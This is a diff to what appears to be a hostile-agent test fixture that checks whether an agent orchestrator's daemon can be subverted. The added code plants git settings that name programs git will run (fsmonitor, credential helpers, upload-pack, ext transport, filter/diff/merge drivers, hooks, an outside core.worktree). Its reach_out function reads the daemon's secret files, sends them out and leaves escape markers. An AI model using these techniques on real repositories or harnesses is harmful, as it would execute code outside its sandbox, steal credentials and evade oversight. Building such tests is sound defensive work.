@@ -1,6 +1,9 @@
 """A coding agent that tries every way out it knows; the hostile suite makes it the daemon's.
 
-Run as ``python agent.py CONFIG``. In the implementing phase it:
+Run as ``python agent.py CONFIG``. With ``mirror`` in its config it only commits
+its work and leaves every setting that names a program git may run in its
+workspace's repository, for the daemon's git (:func:`plant_workspace`); later
+turns do nothing. Otherwise, in the implementing phase it:
 
 - poisons the git config and hooks of every mirror it can find (``pushurl``,
   ``url.insteadOf``, ``http.proxy``, ``credential.helper``, ``include.path``,
@@ -36,6 +39,7 @@ import sys
 import time
 import traceback
 import urllib.request
+from collections.abc import Callable
 from pathlib import Path
 from typing import Any
 
@@ -82,11 +86,15 @@ def environment_blob() -> bytes:
 
 
 def dump(config: dict[str, Any], tag: str, argv: list[str]) -> int:
-    """What a hook, credential helper, fsmonitor or ssh command sees, sent out."""
+    """What a hook, credential helper, fsmonitor or ssh command sees, sent out; then, if it
+    runs outside the sandbox, what it can reach of the daemon's."""
     data = [f"argv={argv!r}".encode(), environment_blob()]
     if select.select([sys.stdin], [], [], 1.0)[0]:
         data.append(sys.stdin.buffer.read(1 << 16))
     send(config, f"git-{tag}", b"\n".join(data))
+    if config.get("mirror"):
+        # Planted for the daemon (the agent itself runs no git after planting).
+        reach_out(config, tag)
     # A credential helper answering nothing, a monitor that gives up, a hook that agrees.
     return 1 if tag == "fsmonitor" else 0
 
@@ -139,6 +147,103 @@ def poison_config(
     if bare:
         write_hooks(repo / "hooks", config_path)
     return done
+
+
+# Hooks git runs during checkout, merge, reset, ref updates, gc, fetch and push (githooks(5)).
+WORKSPACE_HOOKS = (
+    "post-checkout",
+    "post-merge",
+    "post-rewrite",
+    "post-index-change",
+    "reference-transaction",
+    "pre-auto-gc",
+    "fsmonitor-watchman",
+    "pre-push",
+    "post-update",
+)
+
+
+def set_config(config: Path, key: str, value: str) -> None:
+    subprocess.run(["git", "config", "--file", str(config), "--add", key, value], check=True)
+
+
+def plant_workspace(
+    workspace: Path, mirror: Path, outside: Path, program: Callable[[str], str]
+) -> None:
+    """Every setting that names a program git may run, in the workspace's repository.
+
+    From git-config(1), gitattributes(5) and githooks(5): what fetch, checkout,
+    merge, reset, status, log and ref updates may run. ``program(tag)`` is the
+    command each one names; ``mirror`` is the daemon's mirror (its path is
+    predictable from the origin URL), ``outside`` a folder a planted
+    ``core.worktree`` points at.
+    """
+    dot_git = workspace / ".git"
+    kit = dot_git / "hostile"
+    kit.mkdir(exist_ok=True)
+    config = dot_git / "config"
+    # Alternates make git run core.alternateRefsCommand on a fetch.
+    other = kit / "other.git"
+    subprocess.run(["git", "init", "--quiet", "--bare", str(other)], check=True)
+    (dot_git / "objects" / "info").mkdir(parents=True, exist_ok=True)
+    (dot_git / "objects" / "info" / "alternates").write_text(f"{other / 'objects'}\n")
+    mirror_url = mirror.resolve().as_uri()
+    settings = [
+        ("core.alternateRefsCommand", program("alternateRefsCommand")),
+        (f"remote.{mirror_url}.uploadpack", program("uploadpack-mirror-url")),
+        (f"remote.{mirror}.uploadpack", program("uploadpack-mirror-path")),
+        ("remote.origin.uploadpack", program("uploadpack-origin")),
+        ("remote.origin.receivepack", program("receivepack-origin")),
+        ("protocol.ext.allow", "always"),
+        (f"url.ext::{program('ext-transport')} %S .insteadOf", "file://"),
+        ("core.fsmonitor", program("fsmonitor")),
+        ("core.hooksPath", str(kit / "hooks")),
+        ("core.sshCommand", program("sshCommand")),
+        ("core.gitProxy", program("gitProxy")),
+        ("core.askPass", program("askPass")),
+        ("credential.helper", f"!{program('credential')}"),
+        (f"credential.{mirror_url}.helper", f"!{program('credential-url')}"),
+        ("core.pager", program("pager")),
+        ("pager.log", program("pager.log")),
+        ("core.editor", program("editor")),
+        ("sequence.editor", program("sequence.editor")),
+        ("filter.evil.clean", program("filter.clean")),
+        ("filter.evil.smudge", program("filter.smudge")),
+        ("filter.evil.process", program("filter.process")),
+        ("filter.evil.required", "true"),
+        ("diff.external", program("diff.external")),
+        ("diff.evil.textconv", program("diff.textconv")),
+        ("diff.evil.command", program("diff.command")),
+        ("merge.evil.driver", program("merge.driver")),
+        ("gpg.program", program("gpg.program")),
+        ("gpg.ssh.program", program("gpg.ssh.program")),
+        ("log.showSignature", "true"),
+        ("merge.verifySignatures", "true"),
+        ("gc.auto", "1"),
+        ("gc.autoDetach", "false"),
+        ("maintenance.auto", "true"),
+        ("submodule.recurse", "true"),
+        ("fetch.recurseSubmodules", "true"),
+        # A work tree elsewhere: a checkout there would write the daemon's files.
+        ("core.worktree", str(outside)),
+        ("include.path", str(kit / "included.cfg")),
+    ]
+    for key, value in settings:
+        set_config(config, key, value)
+    (kit / "included.cfg").write_text(
+        f"[core]\n\tfsmonitor = {program('included-fsmonitor')}\n"
+        f"[credential]\n\thelper = !{program('included-credential')}\n"
+    )
+    for folder in (kit / "hooks", dot_git / "hooks"):
+        folder.mkdir(exist_ok=True)
+        for name in WORKSPACE_HOOKS:
+            (folder / name).write_text(f'#!/bin/sh\nexec {program("hook-" + name)} "$@"\n')
+            (folder / name).chmod(0o755)
+    # Attributes send every file through the planted filter, diff and merge drivers.
+    attributes = "* filter=evil diff=evil merge=evil\n"
+    (workspace / ".gitattributes").write_text(attributes)
+    (dot_git / "info").mkdir(exist_ok=True)
+    (dot_git / "info" / "attributes").write_text(attributes)
 
 
 # ----------------------------------------------------------------- attacks
@@ -197,6 +302,21 @@ def start_scanner(config_path: str) -> None:
     )
 
 
+def reach_out(config: dict[str, Any], tag: str) -> None:
+    """Read the daemon's secrets and leave a mark in its state folder (works only outside)."""
+    found = []
+    for target in config["targets"]["state"]:
+        path = Path(target)
+        with contextlib.suppress(OSError):
+            if path.is_file():
+                found.append(f"file {path}\n".encode() + path.read_bytes()[: 1 << 16])
+            elif path.is_dir() and os.listdir(path):
+                found.append(f"listing {path}: {sorted(os.listdir(path))}".encode())
+                (path / f"escaped-{tag}").write_text("the agent's program ran here\n")
+    if found:
+        send(config, "escape", b"\n".join(found))
+
+
 def read_tree(path: Path, limit: int = 1 << 20) -> list[bytes]:
     if path.is_dir():
         blobs = [f"listing {path}: {sorted(os.listdir(path))}".encode()]
@@ -246,8 +366,30 @@ def implementing(config: dict[str, Any], config_path: str) -> int:
     return real_work()
 
 
+def plant_for_the_daemon(config: dict[str, Any], config_path: str) -> int:
+    """Real work, then every program-naming setting in the workspace's repository, left for
+    the daemon's git to run when it pushes the branch and brings in someone else's push."""
+    commit_feature()
+    plant_workspace(
+        Path.cwd(),
+        Path(config["mirror"]),
+        Path(config["targets"]["state"][0]),
+        lambda tag: helper(config_path, tag),
+    )
+    send(config, "planted", b"every setting planted")
+    print(json.dumps({"type": "turn_completed"}), flush=True)
+    return 0
+
+
 def real_work() -> int:
     """A commit and a PR description, so the daemon has a branch to push through the mirror."""
+    commit_feature()
+    print(json.dumps({"type": "turn_completed"}), flush=True)
+    return 0
+
+
+def commit_feature() -> None:
+    """A commit and a PR description."""
     feature = Path("src/feature.py")
     feature.parent.mkdir(exist_ok=True)
     feature.write_text("FEATURE = 1\n")
@@ -262,8 +404,6 @@ def real_work() -> int:
     subprocess.run(["git", "commit", "--quiet", "-m", "Add the feature"], check=True, env=env)
     results = Path(os.environ["ORCHESTRATOR_RESULT_DIR"])
     (results / "pr-description.md").write_text("## Summary\n\nAdds the feature.\n")
-    print(json.dumps({"type": "turn_completed"}), flush=True)
-    return 0
 
 
 # --------------------------------------------------------- result files
@@ -316,7 +456,14 @@ def main(argv: list[str]) -> int:
     config_path = argv[0]
     config = load(config_path)
     try:
-        if os.environ.get("ORCHESTRATOR_PHASE") == "implementing":
+        phase = os.environ.get("ORCHESTRATOR_PHASE")
+        if config.get("mirror"):
+            if phase == "implementing":
+                return plant_for_the_daemon(config, config_path)
+            send(config, "turn", f"{phase} turn".encode())
+            print(json.dumps({"type": "turn_completed"}), flush=True)
+            return 0
+        if phase == "implementing":
             return implementing(config, config_path)
         return absurd_results(config)
     except Exception:
